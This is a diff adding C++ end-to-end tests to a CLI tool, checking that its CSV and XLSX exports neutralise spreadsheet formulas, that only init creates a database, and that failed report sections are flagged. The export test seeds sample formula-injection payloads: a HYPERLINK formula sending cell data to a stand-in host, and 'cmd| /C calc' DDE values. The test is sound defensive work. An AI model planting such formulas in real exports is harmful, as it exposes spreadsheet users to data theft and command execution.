@@ -1,11 +1,15 @@
 // maillage-cli end to end: the built binary, run on temporary databases and XDG folders.
 #include "test_support.h"
 
+#include "core/csv.h"
+
 #include <SQLiteCpp/SQLiteCpp.h>
 #include <gtest/gtest.h>
 #include <nlohmann/json.hpp>
 
+#include <pwd.h>
 #include <sys/wait.h>
+#include <unistd.h>
 
 #include <cstdlib>
 
@@ -220,4 +224,203 @@ TEST(CliE2E, APluginThatCrashedTheLastStartIsSkippedAndNamed) {
     EXPECT_OK(r);
     EXPECT_NE(r.out.find("maillage_fixture_crashes.so"), std::string::npos) << r.out;
     EXPECT_NE(r.out.find("crashed the program while starting last time"), std::string::npos) << r.out;
+}
+
+namespace {
+// The cells of a CSV file as written (quotes removed, nothing else undone).
+std::vector<std::string> raw_cells(std::string text) {
+    if (text.rfind("\xEF\xBB\xBF", 0) == 0) text.erase(0, 3);
+    std::vector<std::string> cells;
+    std::string cell;
+    bool quoted = false;
+    for (std::size_t i = 0; i < text.size(); ++i) {
+        const char c = text[i];
+        if (quoted) {
+            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += c, ++i;
+            else if (c == '"') quoted = false;
+            else cell += c;
+        } else if (c == '"') {
+            quoted = true;
+        } else if (c == ';' || c == ',' || c == '\n') {
+            cells.push_back(cell);
+            cell.clear();
+        } else if (c != '\r') {
+            cell += c;
+        }
+    }
+    if (!cell.empty()) cells.push_back(cell);
+    return cells;
+}
+
+// The text cells of an XLSX workbook (its shared strings), XML entities decoded.
+std::vector<std::string> xlsx_strings(const std::filesystem::path& file) {
+    const auto xml_file = file.string() + ".strings.xml";
+    const auto cmd = "unzip -p " + quoted(file.string()) + " xl/sharedStrings.xml > " + quoted(xml_file);
+    EXPECT_EQ(std::system(cmd.c_str()), 0) << file;
+    const auto xml = test::read_file(xml_file);
+    std::vector<std::string> out;
+    for (std::size_t at = xml.find("<t"); at != std::string::npos; at = xml.find("<t", at + 1)) {
+        if (xml.compare(at, 3, "<t>") != 0 && xml.compare(at, 3, "<t ") != 0) continue;
+        const auto start = xml.find('>', at) + 1, end = xml.find("</t>", start);
+        std::string s = xml.substr(start, end - start), decoded;
+        for (std::size_t i = 0; i < s.size(); ++i) {
+            if (s[i] != '&') { decoded += s[i]; continue; }
+            const auto semi = s.find(';', i);
+            const auto entity = s.substr(i, semi - i + 1);
+            decoded += entity == "&amp;" ? "&" : entity == "&lt;" ? "<" : entity == "&gt;" ? ">" :
+                       entity == "&quot;" ? "\"" : entity == "&apos;" ? "'" : entity;
+            i = semi;
+        }
+        out.push_back(decoded);
+    }
+    return out;
+}
+}  // namespace
+
+// Issue 16 item 3: names, institutions, groups and titles that a spreadsheet would run
+// as formulas reach no export as they are, in any of the core's and plugins' CSV and
+// XLSX files; phone numbers and negative numbers stay readable.
+TEST(CliE2E, EveryExportNeutralisesSpreadsheetFormulas) {
+    Cli cli;
+    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
+    std::string cycle;
+    int64_t event = 0;
+    {
+        SQLite::Database file(cli.db().string(), SQLite::OPEN_READWRITE);
+        // Hostile text wherever a user or an import could have typed it.
+        file.exec("UPDATE person SET first_name = '=HYPERLINK(\"http://x.invalid/?\"&A1,\"a\")', "
+                  "last_name = '@SUM(1+1)*cmd|'' /C calc''!A0 ' || id, phone = '+32 2 123 45 67', notes = '-3'");
+        file.exec("UPDATE institution SET name = '+cmd|'' /C calc''!A0 ' || id, municipality = '-2+3+A1'");
+        file.exec("UPDATE intervision_group SET name = '=1+1 ' || id");
+        file.exec("UPDATE catalogue_training SET title_fr = '=2+2 ' || id, title_nl = '=2+2 ' || id");
+        file.exec("UPDATE session SET title = '=3+3' WHERE title IS NOT NULL");
+        cycle = file.execAndGet("SELECT name FROM intervision_cycle ORDER BY id DESC LIMIT 1").getString();
+        event = file.execAndGet("SELECT e.id FROM exchange_event e WHERE EXISTS (SELECT 1 FROM exchange_registration "
+                                "r WHERE r.event_id = e.id) ORDER BY e.id LIMIT 1").getInt64();
+    }
+    const auto d = cli.dir().path();
+    std::vector<std::pair<std::vector<std::string>, std::filesystem::path>> csv_exports = {
+        {{"export", "people", "--out", (d / "people.csv").string()}, d / "people.csv"},
+        {{"export", "institutions", "--out", (d / "inst.csv").string()}, d / "inst.csv"},
+        {{"intervision", "participants", "--cycle", cycle, "--out", (d / "iv.csv").string()}, d / "iv.csv"},
+        {{"exchange", "export", std::to_string(event), "--out", (d / "ex.csv").string()}, d / "ex.csv"},
+        {{"pat", "export", "sessions", "--csv", (d / "pat-s.csv").string()}, d / "pat-s.csv"},
+        {{"pat", "export", "accompaniments", "--csv", (d / "pat-a.csv").string()}, d / "pat-a.csv"},
+        {{"pat", "map", "export", "--csv", (d / "map.csv").string()}, d / "map.csv"},
+    };
+    for (const auto& [args, file] : csv_exports) {
+        auto r = cli.run(args);
+        ASSERT_EQ(r.code, 0) << args[0] << ' ' << args[1] << '\n' << r.err;
+        int guarded = 0;
+        for (const auto& cell : raw_cells(test::read_file(file))) {
+            EXPECT_FALSE(csv::is_formula_risk(cell)) << file.filename() << ": " << cell;
+            guarded += cell.size() > 1 && cell[0] == '\'';
+        }
+        EXPECT_GT(guarded, 0) << file.filename() << " holds none of the hostile values: the test proves nothing";
+    }
+    const auto people = test::read_file(d / "people.csv");
+    EXPECT_NE(people.find(";+32 2 123 45 67;"), std::string::npos) << "a phone number is written as it is";
+    EXPECT_NE(people.find(";-3\r\n"), std::string::npos) << "a negative number is written as it is";
+
+    std::vector<std::pair<std::vector<std::string>, std::filesystem::path>> xlsx_exports = {
+        {{"intervision", "participants", "--cycle", cycle, "--out", (d / "iv.xlsx").string()}, d / "iv.xlsx"},
+        {{"exchange", "export", std::to_string(event), "--out", (d / "ex.xlsx").string()}, d / "ex.xlsx"},
+        {{"pat", "export", "sessions", "--xlsx", (d / "pat-s.xlsx").string()}, d / "pat-s.xlsx"},
+        {{"pat", "export", "accompaniments", "--xlsx", (d / "pat-a.xlsx").string()}, d / "pat-a.xlsx"},
+        {{"catalogue", "export-xlsx", "--year", "2025", "--out", (d / "cat.xlsx").string()}, d / "cat.xlsx"},
+    };
+    for (const auto& [args, file] : xlsx_exports) {
+        auto r = cli.run(args);
+        ASSERT_EQ(r.code, 0) << args[0] << ' ' << args[1] << '\n' << r.err;
+        int guarded = 0;
+        for (const auto& cell : xlsx_strings(file)) {
+            EXPECT_FALSE(csv::is_formula_risk(cell)) << file.filename() << ": " << cell;
+            guarded += cell.size() > 1 && cell[0] == '\'';
+        }
+        EXPECT_GT(guarded, 0) << file.filename() << " holds none of the hostile values: the test proves nothing";
+    }
+
+    // The people export imports back into a fresh database as it was.
+    Cli copy;
+    ASSERT_EQ(copy.run({"init"}).code, 0);
+    EXPECT_OK(copy.run({"import", "institutions", (d / "inst.csv").string()}));
+    EXPECT_OK(copy.run({"import", "people", (d / "people.csv").string()}));
+    auto again = copy.run({"export", "people"});
+    EXPECT_OK(again);
+    EXPECT_EQ(again.out, people);
+    SQLite::Database file(copy.db().string(), SQLite::OPEN_READONLY);
+    EXPECT_EQ(file.execAndGet("SELECT count(*) FROM person WHERE first_name LIKE '=HYPERLINK(%'").getInt(), 200);
+}
+
+// Issue 16 item 7: only init makes a database; every other command, the core's and the
+// plugins', refuses a missing --db file with a message naming it, and creates nothing.
+TEST(CliE2E, OnlyInitCreatesADatabase) {
+    Cli cli;
+    const std::vector<std::vector<std::string>> commands = {
+        {"backup"},
+        {"check"},
+        {"retention", "list"},
+        {"gdpr", "export", "--person", "1", "--out", (cli.dir() / "p.json").string()},
+        {"report", "--year", "2025"},
+        {"export", "people"},
+        {"intervision", "cycle", "list"},
+        {"exchange", "event", "list"},
+        {"pat", "board"},
+        {"catalogue", "training", "list"},
+    };
+    for (const auto& args : commands) {
+        auto r = cli.run(args);
+        EXPECT_NE(r.code, 0) << args[0] << ' ' << args.back() << '\n' << r.out;
+        EXPECT_NE(r.err.find("There is no database at " + cli.db().string()), std::string::npos) << args[0] << ": "
+                                                                                              << r.err;
+        for (const auto& entry : std::filesystem::directory_iterator(cli.dir().path()))
+            EXPECT_EQ(entry.path().filename().string().rfind("maillage.sqlite", 0), std::string::npos)
+                << args[0] << " left " << entry.path();
+    }
+    EXPECT_OK(cli.run({"init"}));
+    EXPECT_TRUE(std::filesystem::exists(cli.db()));
+    EXPECT_OK(cli.run({"check"}));
+}
+
+TEST(CliE2E, WithoutHomeTheDefaultDatabaseIsNotInTmp) {
+    const passwd* pw = getpwuid(getuid());
+    ASSERT_NE(pw, nullptr);
+    if (std::filesystem::exists(std::string(pw->pw_dir) + "/.local/share/maillage/maillage.sqlite"))
+        GTEST_SKIP() << "this account has a default database; the test would open it";
+    test::TempDir dir;
+    const auto err = dir / "err.txt";
+    const std::string cmd = "cd " + quoted(dir.path().string()) +
+                            " && env -u HOME -u XDG_DATA_HOME -u XDG_CONFIG_HOME -u MAILLAGE_DB -u MAILLAGE_PLUGIN_PATH "
+                            "LC_ALL=C.UTF-8 LANGUAGE= " + quoted((test::build_bin_dir() / "maillage-cli").string()) +
+                            " check 2>" + quoted(err.string());
+    const int status = std::system(cmd.c_str());
+    EXPECT_NE(WEXITSTATUS(status), 0);
+    const auto text = test::read_file(err);
+    // Either the account's home is used (and names no database yet), or the error says
+    // no home is known; never a database under /tmp.
+    EXPECT_EQ(text.find("/tmp/"), std::string::npos) << text;
+    EXPECT_NE(text.find(std::string(pw->pw_dir) + "/.local/share/maillage/maillage.sqlite"), std::string::npos) << text;
+}
+
+// Issue 16 item 14: a report with a section that could not be computed exits non-zero
+// and names it; check names a trigger that no migration created.
+TEST(CliE2E, AReportWithAFailedSectionFailsAndCheckNamesForeignTriggers) {
+    Cli cli;
+    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
+    EXPECT_OK(cli.run({"report", "--year", "2025", "--format", "json"}));
+    EXPECT_OK(cli.run({"check"}));  // the plugins' own triggers and views are known
+    {
+        SQLite::Database file(cli.db().string(), SQLite::OPEN_READWRITE);
+        file.exec("ALTER TABLE exchange_registration RENAME TO exchange_registration_lost");
+        file.exec("CREATE TRIGGER copy_people AFTER UPDATE ON person BEGIN SELECT 1; END");
+    }
+    const auto out = cli.dir() / "report.json";
+    auto r = cli.run({"report", "--year", "2025", "--format", "json", "--out", out.string()});
+    EXPECT_NE(r.code, 0);
+    EXPECT_NE(r.err.find("The report is incomplete"), std::string::npos) << r.err;
+    EXPECT_NE(r.err.find("exchange"), std::string::npos) << r.err;
+    EXPECT_NE(test::read_file(out).find(".error"), std::string::npos) << "the rest of the report is still written";
+    r = cli.run({"check"});
+    EXPECT_NE(r.code, 0);
+    EXPECT_NE(r.out.find("trigger copy_people on person was not created by any migration"), std::string::npos) << r.out;
 }
